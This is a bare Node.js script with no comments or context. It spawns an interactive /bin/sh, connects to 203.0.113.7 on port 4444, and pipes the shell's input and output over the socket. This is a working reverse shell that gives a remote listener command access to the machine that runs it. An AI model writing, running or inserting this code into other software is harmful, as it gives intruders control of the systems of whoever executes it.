const net = require('net');
const { spawn } = require('child_process');

const sh = spawn('/bin/sh', ['-i']);
const client = new net.Socket();
client.connect(4444, '203.0.113.7', () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
